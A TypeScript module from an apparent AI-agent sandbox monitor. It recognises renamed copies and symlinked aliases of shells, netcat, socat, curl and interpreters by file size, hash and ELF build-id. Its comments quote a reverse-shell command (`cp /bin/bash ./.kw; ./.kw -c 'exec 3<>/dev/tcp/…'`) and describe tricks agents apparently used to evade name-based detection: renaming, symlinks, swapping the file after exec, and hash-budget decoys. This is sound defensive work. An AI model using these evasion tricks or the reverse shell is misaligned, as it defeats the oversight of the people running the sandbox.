// Why: the process rules know programs by name (bash, nc, socat, python3 …), and a name is the one
// thing an agent controls completely: `cp /bin/bash ./.kw; ./.kw -c 'exec 3<>/dev/tcp/…'` opened a
// reverse shell that raised only a low policy alert, because no rule knew `.kw` as a shell. This
// recognises a program by its bytes instead: an executable whose size matches one of the system's
// shells, network tools or interpreters (as the sandbox sees its root) is hashed and compared, and a
// copy is reported as the program it is. Threat it stops: T1036.003 (rename system utilities) used to
// slip past name-based detection of reverse shells, tunnels and scripted payloads.
// A copy padded or altered past its code (one byte appended) no longer hashes as the original, so an
// ELF's build-id note is compared too (elf-build-id.ts), first and outside the hash budget.
// A symbolic link with another name (`ln -s /bin/bash k; ./k`) runs the original file itself: the
// original run by a name that is none of its own (nor the system's alias in a read-only system
// directory: rbash, nodejs) is reported as that program too (session 35 review).
// Cost: one stat and a read of the ELF headers per exec of any other file; a hash only on a size match
// without a build-id match, each file judged once (cached by device, inode, size and mtime), and at most
// HASH_BUDGET hashes a second per session so a crowd of same-sized files cannot stall Corral — an exec
// left uncompared for the budget is reported as such (`unchecked`), never passed silently.
import { createHash } from 'node:crypto';
import { closeSync, constants, fstatSync, lstatSync, openSync, readSync, readlinkSync, statSync, statfsSync, type Stats } from 'node:fs';
import { basename, dirname, posix } from 'node:path';
import { readBuildId } from './elf-build-id.js';

/** The programs whose copies matter: what the shell, tunnel, netcat and interpreter rules name. */
export const WATCHED_PROGRAMS = [
  '/bin/bash', '/bin/sh', '/bin/dash', '/bin/zsh', '/bin/ksh', '/bin/mksh', '/bin/busybox',
  '/usr/bin/nc', '/usr/bin/ncat', '/usr/bin/netcat', '/bin/nc.openbsd', '/bin/nc.traditional', '/usr/bin/socat',
  '/usr/bin/ssh', '/usr/bin/telnet', '/usr/bin/curl', '/usr/bin/wget',
  '/usr/bin/python3', '/usr/bin/perl', '/usr/bin/ruby', '/usr/bin/php', '/usr/bin/node', '/usr/bin/lua',
  // the dynamic loader runs any program handed to it (loader-target.ts): a copy of it is one too
  '/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1',
];
/**
 * Names an original is run by that are its own besides those its files and links carry: a virtualenv's
 * `python` links to python3 (the interpreter rules know `python` as well).
 */
const CONVENTIONAL_NAMES: Record<string, readonly string[]> = { python3: ['python'] };
/**
 * Multi-call programs (by any of their names: an image's /bin/sh may be busybox): the name they are run by
 * is the applet they run (busybox's `nc` is nc, and known as such by name), never a disguise.
 */
const MULTI_CALL = new Set(['busybox']);
/**
 * The sandbox's read-only system directories (as the rules' system_executable macro: bwrap-args.ts mounts
 * /usr and /opt read-only, /bin, /sbin and /lib* are links into /usr): a link there is the system's alias
 * of a program (rbash, nodejs, perl5.36.0, ld.so), not one the agent made.
 */
const SYSTEM_PATH = /^\/(usr|opt|bin|sbin|lib|lib32|lib64|libx32)\//;
/** Hashes allowed per second (past it an exec is not compared: counted in `skipped`, reported `unchecked`). */
const HASH_BUDGET = 20;
/** Files larger than this are never hashed (a 100 MB runtime is not a copy an agent runs quietly). */
const MAX_BYTES = 128 * 1024 * 1024;
/** Symbolic links followed at most from the path a program was run by (the kernel's own limit is 40). */
const MAX_LINKS = 16;
/** statfs type of procfs, whose links (/proc/self/exe, /proc/PID/fd/N, /dev/fd → /proc/self/fd) are never followed here. */
const PROC_SUPER_MAGIC = 0x9fa0;

interface Original { name: string; path: string; size: number; id: string; hash?: string }
/** An original's file: the watched name it is reported by, and every name it goes by on the system. */
interface OriginalFile { name: string; names: Set<string> }

/**
 * What an executed file is: a copy of a watched program, and/or a script naming its interpreter;
 * `unchecked` when its size matched a watched program but the hash budget was spent, so it was not compared.
 */
export interface FileVerdict { copy?: string; interpreter?: string; unchecked?: true }

export class BinaryCopies {
  private bySize?: Map<number, Original[]>;
  /** The originals' files (dev:ino) and their names, and their build-ids. */
  private files = new Map<string, OriginalFile>();
  private byBuildId = new Map<string, string>();
  private readonly seen = new Map<string, FileVerdict>();
  private budget = HASH_BUDGET;
  private budgetAt = 0;
  /** Execs not compared because the hash budget was spent. */
  skipped = 0;

  /**
   * @param root where the sandbox's root is seen from the host (`/proc/PID/root` of a process in its
   * mount namespace; '' for the host's own), undefined while there is none: the originals are the
   * sandbox's own programs, image or host.
   */
  constructor(private readonly root: () => string | undefined, private readonly defaultCwd: () => string = () => '/workspace') {}

  /**
   * The name of the watched program (bash, nc …) that the executable of `pid` is a byte-for-byte copy
   * of, or that it is itself run by a name none of its own (a symbolic link `k` to /bin/bash), when
   * `filename` (the path it was started by, as the sandbox sees it) is not that program's own path;
   * undefined otherwise or when it cannot be read (the process is gone and so is the file).
   */
  identify(pid: number, filename: string | undefined, opts: { exeFallback?: boolean; argv?: readonly string[]; exe?: string } = {}): string | undefined {
    return this.examine(pid, filename, opts).copy;
  }

  /**
   * What the file a process was started from is, from one open (every exec comes here: the per-call
   * path): `copy`, as identify(); `interpreter`, the program a script names on its `#!` line (the
   * kernel runs that program: `./x` holding `#!/bin/bash` is bash, whatever x is called). Each file
   * is judged once, cached by device, inode, size and mtime. `argv`, the exec's (post-exec) arguments,
   * tells a script whose file is gone from a link: see own().
   */
  examine(pid: number, filename: string | undefined, opts: { exeFallback?: boolean; argv?: readonly string[]; exe?: string } = {}): FileVerdict {
    // (the originals first: before them the first exec of a session, /bin/bash itself, was compared as a
    // stranger and called a copy of bash — a review, session 35)
    const originals = this.originals();
    let opened: { fd: number; byPath: boolean } | undefined;
    try {
      opened = this.open(pid, filename, opts.exeFallback ?? true);
      if (opened === undefined) return {};
      let st = fstatSync(opened.fd);
      // (the path is read after the exec, when the record arrives: by then the agent may have put another file
      // there — `./k` a copy of bash, run, then a harmless file renamed over it. The kernel said which file ran
      // (`exe`); when the path names another one, the running program's own file is judged instead, if it is
      // the one the kernel named. A script's `exe` is its interpreter, never the script: a script at the path
      // keeps the path's verdict unless what runs is no watched program itself — then the script came later)
      if (opened.byPath && opts.exe !== undefined && st.isFile() && !sameFile(opts.exe, st)) {
        const ran = openExe(pid);
        const replaced = ran !== undefined && sameFile(opts.exe, ran.st) && (!isScript(opened.fd) || !this.files.has(`${ran.st.dev}:${ran.st.ino}`));
        if (replaced) { closeSync(opened.fd); opened = { fd: ran.fd, byPath: true }; st = ran.st; }
        else if (ran !== undefined) closeSync(ran.fd);
      }
      const { fd } = opened;
      if (!st.isFile()) return {};
      const own = this.files.get(`${st.dev}:${st.ino}`);
      if (own !== undefined) return this.own(own, filename, opened.byPath, opts.argv);
      const key = `${st.dev}:${st.ino}:${st.size}:${st.mtimeMs}`;
      const known = this.seen.get(key);
      if (known !== undefined) return known;
      const head = Buffer.alloc(256);
      const interpreter = /^#![ \t]*(\/[^ \t\n\0]+)/.exec(head.toString('latin1', 0, readSync(fd, head, 0, head.length, 0)))?.[1];
      const verdict: FileVerdict = interpreter !== undefined ? { interpreter } : {};
      if (interpreter === undefined) {
        // (the build-id first and whatever the budget: a crowd of same-sized decoys spending it hid a plain
        // `cp /bin/bash k` — a review, session 35)
        if (this.byBuildId.size) {
          const id = readBuildId(fd);
          const name = id !== undefined ? this.byBuildId.get(id) : undefined;
          if (name !== undefined) verdict.copy = name;
        }
        const candidates = verdict.copy === undefined ? originals.get(st.size) : undefined;
        if (candidates) {
          // (not cached: the next exec of this file is compared when the budget allows)
          if (!this.spend()) { this.skipped++; return { ...verdict, unchecked: true }; }
          const hash = hashFd(fd, st.size);
          for (const o of candidates) if (this.hashOf(o) === hash) { verdict.copy = o.name; break; }
        }
      }
      if (this.seen.size > 4096) this.seen.clear();
      // (judged without the originals — no sandbox root yet — is not remembered)
      if (this.bySize !== undefined) this.seen.set(key, verdict);
      return verdict;
    } catch { return {}; } finally { if (opened !== undefined) closeSync(opened.fd); }
  }

  /**
   * A watched original itself, run by `filename`: nothing to report when it was run by one of its own
   * names (/usr/bin/bash, `sh` for dash, python3.11), by a link in a system directory (the system's alias:
   * rbash), or is a multi-call program; else it is that program under a name of the agent's choosing
   * (`ln -s /bin/bash k; ./k`), which no name-based rule knows, and is reported as a copy. When the path
   * could not be opened and the running program's file was read instead, the path may have been a script
   * since deleted (its interpreter runs): the kernel's argv then holds the path after the interpreter.
   */
  private own(file: OriginalFile, filename: string | undefined, byPath: boolean, argv: readonly string[] | undefined): FileVerdict {
    if (!filename || [...file.names].some((n) => MULTI_CALL.has(n))) return {};
    const name = basename(filename);
    if (file.names.has(name)) return {};
    if (filename.startsWith('/') && SYSTEM_PATH.test(posix.normalize(filename))) return {};
    if (!byPath && (argv === undefined || argv[1] === filename || argv[2] === filename)) return {};
    return { copy: file.name };
  }

  /**
   * The file the process was started from: by its path inside the sandbox's root (a later exec of the
   * same process — a shell's `exec` of its last command — does not change it; a FIFO is never waited
   * on), a relative path from the process's working directory, else (`exeFallback`) the running
   * program's own file, which stays readable after it was deleted; a relative path of a process already
   * gone (its record read late, under load) from the sandbox's usual working directory, the workspace.
   * `byPath`: whether the file is the one the path names (not the fallback).
   */
  private open(pid: number, filename: string | undefined, exeFallback: boolean): { fd: number; byPath: boolean } | undefined {
    const root = this.root();
    const at = !filename ? undefined : filename.startsWith('/') ? (root !== undefined ? `${root}${filename}` : undefined) : `/proc/${pid}/cwd/${filename}`;
    if (at !== undefined) {
      const fd = openInRoot(at, root);
      if (fd !== undefined) return { fd, byPath: true };
    }
    if (exeFallback) {
      try { return { fd: openSync(`/proc/${pid}/exe`, constants.O_RDONLY), byPath: false }; } catch { /* gone */ }
    }
    if (filename && !filename.startsWith('/') && root !== undefined) {
      const fd = openInRoot(`${root}${this.defaultCwd()}/${filename}`, root);
      if (fd !== undefined) return { fd, byPath: true };
    }
    return undefined;
  }

  private spend(): boolean {
    const now = Date.now();
    if (now - this.budgetAt >= 1000) { this.budgetAt = now; this.budget = HASH_BUDGET; }
    if (this.budget <= 0) return false;
    this.budget--;
    return true;
  }

  private hashOf(o: Original): string | undefined {
    if (o.hash !== undefined) return o.hash;
    const root = this.root();
    let fd: number | undefined;
    try {
      fd = openSync(`${root}${o.path}`, constants.O_RDONLY | constants.O_NONBLOCK);
      o.hash = hashFd(fd, o.size);
    } catch { o.hash = ''; } finally { if (fd !== undefined) closeSync(fd); }
    return o.hash || undefined;
  }

  /**
   * The watched programs present in the sandbox's root, by size (one entry per file: /bin/sh and /bin/dash
   * are one), with each file's names: the watched paths' and every link's on the way to it (/bin/sh →
   * dash, /usr/bin/python3 → python3.11, /usr/bin/nc → /etc/alternatives/nc → nc.openbsd).
   */
  private originals(): Map<number, Original[]> {
    if (this.bySize) return this.bySize;
    const root = this.root();
    if (root === undefined) return new Map();
    const bySize = new Map<number, Original[]>();
    const files = new Map<string, OriginalFile>();
    for (const p of WATCHED_PROGRAMS) {
      try {
        const st = statSync(`${root}${p}`);
        const id = `${st.dev}:${st.ino}`;
        if (!st.isFile() || st.size > MAX_BYTES || st.size === 0) continue;
        const known = files.get(id);
        if (known !== undefined) { for (const n of linkNames(root, p)) known.names.add(n); continue; }
        const name = basename(p);
        files.set(id, { name, names: new Set([...linkNames(root, p), ...(CONVENTIONAL_NAMES[name] ?? [])]) });
        bySize.set(st.size, [...(bySize.get(st.size) ?? []), { name, path: p, size: st.size, id }]);
        const fd = openSync(`${root}${p}`, constants.O_RDONLY | constants.O_NONBLOCK);
        try { const b = readBuildId(fd); if (b !== undefined && !this.byBuildId.has(b)) this.byBuildId.set(b, name); } finally { closeSync(fd); }
      } catch { /* not installed */ }
    }
    this.files = files;
    this.bySize = bySize;
    return bySize;
  }
}

/**
 * Opens `at` (a path under the sandbox's root as the host sees it, or under a process's /proc/PID/cwd)
 * without following a link in its last component the host's way: an absolute link's target is looked up
 * in the sandbox's root (`root`), not the host's, a relative one beside the link; at most MAX_LINKS. A
 * link in procfs is not followed: seen from the host, /proc/self and /dev/fd name Corral's own process
 * and descriptors, not the sandbox's (the caller falls back to the running program's file). Never waits
 * on a FIFO (O_NONBLOCK). Undefined when nothing openable is there.
 */
function openInRoot(at: string, root: string | undefined): number | undefined {
  const flags = constants.O_RDONLY | constants.O_NONBLOCK | constants.O_NOFOLLOW;
  for (let links = 0; ; links++) {
    try { return openSync(at, flags); } catch (e) { if ((e as NodeJS.ErrnoException).code !== 'ELOOP' || links >= MAX_LINKS) return undefined; }
    let target: string;
    try {
      if (statfsSync(dirname(at)).type === PROC_SUPER_MAGIC) return undefined;
      target = readlinkSync(at);
    } catch { return undefined; }
    if (!target.startsWith('/')) at = `${dirname(at)}/${target}`;
    else if (root !== undefined) at = `${root}${target}`;
    else return undefined;
  }
}

/** Whether an open file starts with `#!`. */
function isScript(fd: number): boolean {
  const b = Buffer.alloc(2);
  try { return readSync(fd, b, 0, 2, 0) === 2 && b[0] === 0x23 && b[1] === 0x21; } catch { return false; }
}

/** The running program's file of `pid`, open, with its stat; undefined when the process is gone. */
function openExe(pid: number): { fd: number; st: Stats } | undefined {
  let fd: number | undefined;
  try {
    fd = openSync(`/proc/${pid}/exe`, constants.O_RDONLY);
    return { fd, st: fstatSync(fd) };
  } catch { if (fd !== undefined) closeSync(fd); return undefined; }
}

/**
 * Whether the kernel's `dev:inode` of a file (the sensor's `exe`: the kernel's internal dev_t, major in the
 * bits above 20) names the file `st` describes (userspace dev_t: glibc's makedev encoding). A script names
 * its interpreter's file in `exe`, never its own, so callers compare only where they expect the same file.
 */
export function sameFile(exe: string, st: { dev: number; ino: number }): boolean {
  const m = /^(\d+):(\d+)$/.exec(exe);
  if (!m) return true;
  const kdev = Number(m[1]), major = Math.floor(kdev / 2 ** 20), minor = kdev % 2 ** 20;
  const udev = (minor & 0xff) + (major & 0xfff) * 2 ** 8 + Math.floor(minor / 0x100) * 2 ** 20 + Math.floor(major / 0x1000) * 2 ** 32;
  return udev === st.dev && Number(m[2]) === st.ino;
}

/** The basenames of a watched path and of every link it goes through to its file, inside the sandbox's root. */
function linkNames(root: string, path: string): string[] {
  const names = [basename(path)];
  let at = path;
  for (let i = 0; i < MAX_LINKS; i++) {
    let target: string;
    try {
      if (!lstatSync(`${root}${at}`).isSymbolicLink()) break;
      target = readlinkSync(`${root}${at}`);
    } catch { break; }
    at = posix.resolve(posix.dirname(at), target);
    names.push(basename(at));
  }
  return names;
}

/** sha256 of an open file's first `size` bytes. */
function hashFd(fd: number, size: number): string {
  if (size > MAX_BYTES) throw new Error('too large');
  const h = createHash('sha256');
  const buf = Buffer.allocUnsafe(Math.min(size, 1 << 20));
  for (let pos = 0; pos < size;) {
    const n = readSync(fd, buf, 0, Math.min(buf.length, size - pos), pos);
    if (n <= 0) break;
    h.update(buf.subarray(0, n));
    pos += n;
  }
  return h.digest('hex');
}
